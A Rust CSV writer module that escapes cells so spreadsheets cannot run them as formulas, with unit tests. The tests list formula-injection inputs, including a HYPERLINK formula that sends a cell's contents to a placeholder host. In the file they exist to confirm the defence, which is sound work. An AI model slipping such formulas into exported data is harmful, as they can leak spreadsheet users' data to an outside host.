//! Tables for people who open them in a spreadsheet: no cell of ours may start a formula there.
//!
//! Source: OWASP, "CSV Injection"; RFC 4180.

use std::borrow::Cow;
use std::io;

/// One cell of a table.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell<'a> {
    /// Nothing known.
    Empty,
    /// Words; made harmless when written.
    Text(Cow<'a, str>),
    /// A whole number, written as it is: a minus sign before digits starts no formula.
    Whole(i64),
    /// A number as somebody wrote it, kept digit for digit; made harmless like words when it is none.
    Digits(Cow<'a, str>),
    /// A decimal number with a point. Not a number and infinity are written as an empty cell.
    Decimal(f64),
}

impl<'a> From<&'a str> for Cell<'a> {
    fn from(text: &'a str) -> Self {
        Self::Text(text.into())
    }
}

impl From<String> for Cell<'_> {
    fn from(text: String) -> Self {
        Self::Text(text.into())
    }
}

impl From<i64> for Cell<'_> {
    fn from(number: i64) -> Self {
        Self::Whole(number)
    }
}

impl From<f64> for Cell<'_> {
    fn from(number: f64) -> Self {
        Self::Decimal(number)
    }
}

impl<'a, T: Into<Cell<'a>>> From<Option<T>> for Cell<'a> {
    fn from(value: Option<T>) -> Self {
        value.map_or(Self::Empty, Into::into)
    }
}

/// Writes a table row by row: UTF-8, commas, CRLF, quotes where needed.
pub struct Writer<W: io::Write> {
    inner: csv::Writer<W>,
}

impl<W: io::Write> Writer<W> {
    /// Begins a table with the names of its columns.
    ///
    /// # Errors
    /// What `out` refuses.
    pub fn new(out: W, columns: &[&str]) -> io::Result<Self> {
        let mut inner = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(out);
        inner.write_record(columns.iter().map(|name| harmless(name).into_owned()))?;
        Ok(Self { inner })
    }

    /// Writes one row.
    ///
    /// # Errors
    /// What `out` refuses, or a row that has not as many cells as there are columns.
    pub fn row(&mut self, cells: &[Cell<'_>]) -> io::Result<()> {
        for cell in cells {
            match cell {
                Cell::Text(text) => self.inner.write_field(&*harmless(text))?,
                Cell::Digits(digits) if is_number(digits) => self.inner.write_field(&**digits)?,
                Cell::Digits(text) => self.inner.write_field(&*harmless(text))?,
                Cell::Whole(number) => self.inner.write_field(number.to_string())?,
                Cell::Decimal(number) if number.is_finite() => self.inner.write_field(number.to_string())?,
                Cell::Empty | Cell::Decimal(_) => self.inner.write_field("")?,
            }
        }
        Ok(self.inner.write_record(None::<&[u8]>)?)
    }

    /// Ends the table and gives back what it was written to.
    ///
    /// # Errors
    /// What `out` refuses.
    pub fn finish(self) -> io::Result<W> {
        self.inner.into_inner().map_err(csv::IntoInnerError::into_error)
    }
}

/// Digits with at most one sign before and one point inside: nothing a spreadsheet could take for a formula.
pub fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (whole, part) = digits.split_once('.').unwrap_or((digits, "0"));
    let all = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    all(whole) && all(part)
}

/// `text` so that no spreadsheet takes it for a formula: an apostrophe before `= + - @`, tab, carriage return or line
/// feed, also behind spaces and in their full-width forms, and wherever a spreadsheet set to semicolons or tabs would see a
/// new cell begin.
pub fn harmless(text: &str) -> Cow<'_, str> {
    const STARTS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
    let starts_formula = text.starts_with(STARTS)
        || text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control()).starts_with(STARTS);
    let mut safe = if starts_formula { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) };
    let splits = |text: &str| {
        text.match_indices([';', '\t'])
            .map(|(at, mark)| at + mark.len())
            .find(|at| text[*at..].trim_start_matches([' ', '"', '\u{a0}']).starts_with(FORMULA))
    };
    while let Some(at) = splits(&safe) {
        safe.to_mut().insert(at, '\'');
    }
    safe
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(rows: &[&[Cell<'_>]]) -> String {
        let mut writer = Writer::new(Vec::new(), &["place", "count"]).unwrap();
        for row in rows {
            writer.row(row).unwrap();
        }
        String::from_utf8(writer.finish().unwrap()).unwrap()
    }

    #[test]
    fn no_cell_can_start_a_formula() {
        for attack in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\tword",
            "\rword",
            "\nword",
            "\t=1",
            "\r=1",
            "\n=1",
            "  =1",
            "\u{0}=1",
            "\u{a0}=1",
            "＝1",
            "=HYPERLINK(\"http://example.test?\"&A1,\"Zed\")",
        ] {
            let table = written(&[&[attack.into(), 1_i64.into()]]);
            let mut reader = csv::Reader::from_reader(table.as_bytes());
            let record = reader.records().next().unwrap().unwrap();
            assert_eq!(&record[0], format!("'{}", attack.replace("\t=", "\t'=")), "{attack:?}");
            assert_eq!(&record[1], "1");
        }
    }

    #[test]
    fn no_cell_that_a_semicolon_would_split_can_start_a_formula() {
        for (attack, safe) in [
            ("x;=1+1", "x;'=1+1"),
            ("x; \"=1", "x;' \"=1"),
            ("a;+1;-2", "a;'+1;'-2"),
            ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
            ("a;b-c", "a;b-c"),
        ] {
            assert_eq!(harmless(attack), safe);
        }
    }

    #[test]
    fn words_and_numbers_stay_as_they_are() {
        let table = written(&[
            &["N'Gara, \"Ségou\"".into(), Cell::Whole(-5)],
            &["a=b-c".into(), Cell::Decimal(-11.57371)],
            &[Cell::Empty, Cell::Decimal(f64::NAN)],
            &[None::<&str>.into(), Some(3_i64).into()],
        ]);
        assert_eq!(table, "place,count\r\n\"N'Gara, \"\"Ségou\"\"\",-5\r\na=b-c,-11.57371\r\n,\r\n,3\r\n");
    }

    #[test]
    fn a_number_stays_digit_for_digit_and_what_only_looks_like_one_is_made_harmless() {
        let digits = |text| Cell::Digits(Cow::Borrowed(text));
        let table = written(&[&[digits("-8.0050"), digits("007")], &[digits("-1+2"), digits("-")]]);
        assert_eq!(table, "place,count\r\n-8.0050,007\r\n'-1+2,'-\r\n");
    }

    #[test]
    fn a_row_of_another_width_is_refused() {
        let mut writer = Writer::new(Vec::new(), &["place", "count"]).unwrap();
        assert!(writer.row(&["Zed".into()]).is_err());
    }
}
